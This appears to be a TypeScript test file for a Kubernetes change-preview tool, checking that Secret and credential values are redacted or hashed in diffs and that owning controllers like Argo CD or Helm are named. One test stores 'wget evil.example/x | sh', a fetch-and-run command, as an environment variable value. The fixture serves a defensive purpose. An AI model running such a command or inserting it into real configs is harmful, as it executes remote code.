import { digestOf } from '@fairlead/contract/json/digest'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { effectObject, type ObjectWrite, shownChanges, withNamedPlaces } from './effect-object.ts'
import { withoutGenerated } from './generated-fields.ts'
import type { KubeObject } from './kube-object.ts'
import { SEALED } from './origins.ts'
import { ownerWarnings } from './owner-warnings.ts'
import { revertUndo } from './revert-undo.ts'

const key = Buffer.alloc(32, 3)
const ref = { cluster: 'default', apiVersion: 'v1', kind: 'Secret', namespace: 'shop', name: 's' }
const secret = (data: Record<string, string>, metadata: Record<string, unknown> = {}): KubeObject => ({
  apiVersion: 'v1',
  kind: 'Secret',
  metadata: { name: 's', ...metadata },
  data: Object.fromEntries(Object.entries(data).map(([name, value]) => [name, Buffer.from(value).toString('base64')])),
})
const pod = (env: { name: string; value: string }[]): KubeObject => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'p' },
  spec: { containers: [{ name: 'app', env }] },
})
const update = (before: KubeObject, after: KubeObject): ObjectWrite => ({
  ref: { ...ref, kind: before.kind },
  action: 'update',
  before,
  after,
})

describe('effectObject', () => {
  it('of a kind of that name in another group hides what was read, and shows what is written', () => {
    const other = { apiVersion: 'example.com/v1', kind: 'Secret', metadata: { name: 's' } }
    const of = (value: string) => ({ ...other, data: { login: { password: value } } })
    const { changes, diff } = effectObject(
      {
        ref: { ...ref, apiVersion: 'example.com/v1' },
        action: 'update',
        before: of('a former value of it'),
        after: of('another value of it'),
      },
      undefined,
    )
    expect(changes).toEqual([{ path: '/data/login/password', before: '***', after: 'another value of it' }])
    expect(diff).not.toMatch(/former value of it/)
  })

  it('never shows a value of a Secret, in changes, diff or undo, and shows that it changes', () => {
    const value = fc.string({ minLength: 9, maxLength: 40 }).map((text) => `<<${text}>>`)
    fc.assert(
      fc.property(value, value, (before, after) => {
        fc.pre(before !== after)
        const write = update(secret({ it: before }), secret({ it: after }))
        const object = effectObject(write, key)
        const shown = JSON.stringify([object, revertUndo([write], key)])
        for (const hidden of [before, after]) {
          expect(shown).not.toContain(JSON.stringify(hidden).slice(1, -1))
          expect(shown).not.toContain(Buffer.from(hidden).toString('base64'))
        }
        expect(object.changes).toHaveLength(1)
        expect(object.diff).toMatch(/^-.*\n\+/m)
      }),
    )
  })

  it('says what the elements of lists are called, outside of what is approved', () => {
    const of = (value: string) => pod([{ name: 'LOG_LEVEL', value }])
    const { changes, elements } = effectObject(update(of('info'), of('debug')), key)
    expect(changes).toEqual([{ path: '/spec/containers/0/env/0/value', before: 'info', after: 'debug' }])
    expect(elements).toEqual({
      '/spec/containers/0': { name: 'app' },
      '/spec/containers/0/env/0': { name: 'LOG_LEVEL' },
    })
    expect(effectObject(update(secret({ it: 'a' }), secret({ it: 'b' })), key)).not.toHaveProperty('elements')
  })

  it('hashes under the key, from 16 bytes on', () => {
    const changed = (before: string, after: string, by: Buffer | undefined = key) =>
      effectObject(update(secret({ it: before }), secret({ it: after })), by).changes[0]
    const change = changed('0123456789abcdef', 'fedcba9876543210')
    expect(change?.before).toMatch(/^\*\*\*\(16 bytes, [0-9a-f]{12}\)$/)
    expect(change?.after).not.toBe(change?.before)
    expect(changed('0123456789abcdef', 'x', Buffer.alloc(32, 4))?.before).not.toBe(change?.before)
    expect(changed('0123456789abcde', 'x')).toEqual({ path: '/data/it', before: '***', after: '***' })
    expect(effectObject(update(secret({ it: '0123456789abcdef' }), secret({})), undefined).changes[0]?.before).toBe(
      '***',
    )
  })

  it('hides variables with a telling name where they stand, and not where they are written', () => {
    const before = pod([
      { name: 'DB_PASSWORD', value: 'correct horse' },
      { name: 'API_TOKEN', value: 'it stays as it is' },
      { name: 'URL', value: 'http://a' },
    ])
    const after = pod([
      { name: 'DB_PASSWORD', value: 'wget evil.example/x | sh' },
      { name: 'URL', value: 'http://ann:hunter2-hunter2-1@b/c' },
      { name: 'API_TOKEN', value: 'it stays as it is' },
    ])
    const inPlace = effectObject(update(before, after), key)
    const asList = effectObject(update(pod([]), after), key)
    for (const shown of [JSON.stringify(inPlace), JSON.stringify(asList)]) {
      expect(shown).not.toMatch(/correct horse|hunter2/)
      expect(shown).toMatch(/http:\/\/ann:\*\*\*\(17 bytes, [0-9a-f]{12}\)@b\/c/)
      expect(shown).toContain('wget evil.example/x | sh')
    }
    // What was there before is only read, though the list has moved it.
    expect(JSON.stringify(inPlace)).not.toContain('it stays as it is')
    expect(JSON.stringify(asList)).toContain('it stays as it is')
  })

  it('is the same whatever the server does to what is its own', () => {
    const noise = fc.record(
      {
        resourceVersion: fc.string(),
        uid: fc.uuid(),
        generation: fc.nat(),
        managedFields: fc.array(fc.record({ manager: fc.string() })),
        annotations: fc.constantFrom({}, { 'deployment.kubernetes.io/revision': '7' }),
        labels: fc.constant({}),
      },
      { requiredKeys: [], noNullPrototype: true },
    )
    const plain = effectObject(update(secret({ a: '1' }), secret({ a: '2' })), key)
    fc.assert(
      fc.property(noise, noise, fc.jsonValue(), (before, after, status) => {
        const write = update({ ...secret({ a: '1' }, before), status }, secret({ a: '2' }, after))
        expect(digestOf(effectObject(write, key))).toBe(digestOf(plain))
      }),
    )
  })
})

it('leaves out what a dry run makes up, unless somebody said it', () => {
  const uid = '6f0f4a7e-0000-4000-8000-000000000000'
  const service = {
    apiVersion: 'v1',
    kind: 'Service',
    metadata: { name: 's', uid },
    spec: { clusterIP: '10.96.0.0', clusterIPs: ['10.96.0.0'], ports: [{ port: 80, nodePort: 32769 }] },
  }
  expect(withoutGenerated(service, {})).toMatchObject({
    object: { spec: { ports: [{ port: 80 }] } },
    generated: ['/spec/clusterIP', '/spec/clusterIPs', '/spec/ports/0/nodePort'],
  })
  const manifest = { spec: { ports: [{ nodePort: 32769 }] } }
  expect(withoutGenerated(service, { manifest }).generated).toEqual(['/spec/clusterIP', '/spec/clusterIPs'])
  expect(withoutGenerated(service, { before: service }).generated).toEqual([])
  const headless = { ...service, spec: { clusterIP: 'None', clusterIPs: ['None'] } }
  expect(withoutGenerated(headless, {}).generated).toEqual([])
  const job = {
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: { name: 'j', uid, labels: { 'controller-uid': uid, app: 'j' } },
    spec: { selector: { matchLabels: { 'controller-uid': uid } } },
  }
  expect(withoutGenerated(job, {}).object).toEqual({
    ...job,
    metadata: { ...job.metadata, labels: { app: 'j' } },
    spec: { selector: { matchLabels: {} } },
  })
})

it.each([
  [
    { annotations: { 'argocd.argoproj.io/tracking-id': 'shop:apps/Deployment:shop/web' } },
    'Argo CD (application "shop")',
  ],
  [{ labels: { 'kustomize.toolkit.fluxcd.io/name': 'apps' } }, 'Flux (Kustomization "apps")'],
  [{ labels: { 'helm.toolkit.fluxcd.io/name': 'web' } }, 'Flux (HelmRelease "web")'],
  [{ annotations: { 'meta.helm.sh/release-name': 'web' } }, 'Helm (release "web")'],
  [
    { ownerReferences: [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-1', uid: 'u', controller: true }] },
    'ReplicaSet "web-1"',
  ],
])('names who keeps an object: %j', (metadata, owner) => {
  expect(ownerWarnings({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'web', ...metadata } })).toEqual([
    `Pod "web" is kept by ${owner}. The next sync undoes this change.`,
  ])
})

describe('an effect on one object', () => {
  const configMap = (data: object): KubeObject => ({
    apiVersion: 'v1',
    kind: 'ConfigMap',
    metadata: { name: 's' },
    data,
  })

  it('is the whole object where it is made, and nothing but what goes where it is deleted', () => {
    const made = effectObject({ ref, action: 'create', after: configMap({ a: '1' }) }, key)
    expect(made.changes).toStrictEqual([{ path: '', after: configMap({ a: '1' }) }])
    expect(made.diff).toMatch(/^--- live Secret shop\/s\n\+\+\+ result Secret shop\/s\n/)
    const gone = effectObject({ ref, action: 'delete', before: configMap({ a: '1' }) }, key)
    expect(gone).toStrictEqual({
      ...ref,
      action: 'delete',
      changes: [],
      diff: expect.stringContaining('\n-  a: "1"\n'),
    })
  })

  it('has only the sides that are there', () => {
    const { changes } = effectObject(update(configMap({ a: '1', b: '2' }), configMap({ b: '3', c: '4' })), key)
    expect(changes).toStrictEqual([
      { path: '/data/a', before: '1' },
      { path: '/data/b', before: '2', after: '3' },
      { path: '/data/c', after: '4' },
    ])
  })

  it('says in the diff that a short secret changes, and of nothing else that it does', () => {
    const { diff } = effectObject(update(secret({ it: 'a', same: 'b' }), secret({ it: 'c', same: 'b' })), key)
    expect(diff).toContain('\n-  it: "***"\n+  it: "*** (changed)"\n')
    expect(diff).toContain('\n   same: "***"\n')
    const plain = effectObject(update(configMap({ a: '1' }), configMap({ a: '2' })), key).diff
    expect(plain).not.toContain('(changed)')
  })

  it('compares the status where that is written', () => {
    const of = (phase: string) => ({ ...configMap({}), status: { phase } })
    const write = update(of('A'), of('B'))
    expect(effectObject(write, key).changes).toEqual([])
    expect(effectObject({ ...write, writesStatus: true }, key).changes).toEqual([
      { path: '/status/phase', before: 'A', after: 'B' },
    ])
  })

  it('of what came sealed shows no more than of what is read', () => {
    const write = update(pod([]), pod([{ name: 'API_TOKEN', value: 'a sealed value' }]))
    expect(effectObject(write, undefined).diff).toContain('a sealed value')
    const said = pod([{ name: 'API_TOKEN', value: SEALED }])
    expect(effectObject({ ...write, said }, undefined).diff).not.toContain('a sealed value')
  })
})

describe('names of further places', () => {
  const write = update(pod([{ name: 'A', value: '1' }]), pod([{ name: 'A', value: '2' }]))
  const object = effectObject(write, key)
  const place = '/spec/containers/0'
  it('are added to those that are known', () => {
    const { elements, ...bare } = object
    const named = withNamedPlaces({ ...bare, elements: { '/x': { name: 'x' } } }, write, {
      places: [place],
      redactionKey: key,
    })
    expect(named).toStrictEqual({ ...bare, elements: { '/x': { name: 'x' }, [place]: { name: 'app' } } })
    expect(elements).toHaveProperty([place])
  })
  it('are none where nothing has a name, or there are no places', () => {
    const { elements, ...bare } = object
    expect(withNamedPlaces(bare, write, { places: ['/spec'], redactionKey: key })).toStrictEqual(bare)
    expect(withNamedPlaces(bare, write, { places: [], redactionKey: key })).toStrictEqual(bare)
    expect(withNamedPlaces(object, write, { places: [], redactionKey: key })).toStrictEqual({ ...bare, elements })
  })
})

it('tells an update in words with what it becomes, and of what goes as it was', () => {
  const write = update(pod([]), pod([{ name: 'A', value: '1' }]))
  expect(shownChanges(write, key)).toMatchObject({
    ref: write.ref,
    shown: { kind: 'Pod', spec: { containers: [{ env: [{ name: 'A' }] }] } },
  })
  const before = pod([])
  expect(shownChanges({ ref, action: 'delete', before }, key).shown).toEqual(before)
})

it('names all who keep an object, by their names alone', () => {
  const metadata = {
    name: 'web',
    annotations: { 'argocd.argoproj.io/tracking-id': 'a "b"', 'meta.helm.sh/release-name': 'x'.repeat(300) },
    ownerReferences: [
      { apiVersion: 'v1', kind: 'A', name: 'a', uid: 'u' },
      { apiVersion: 'v1', kind: 'B', name: 'b', uid: 'v', controller: true },
    ],
  }
  const end = '. The next sync undoes this change.'
  expect(ownerWarnings({ apiVersion: 'v1', kind: 'Pod', metadata })).toEqual([
    `Pod "web" is kept by Argo CD (application "a \\"b\\"")${end}`,
    `Pod "web" is kept by Helm (release "${'x'.repeat(253)}")${end}`,
    `Pod "web" is kept by B "b"${end}`,
  ])
  expect(ownerWarnings({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'web' } })).toEqual([])
})
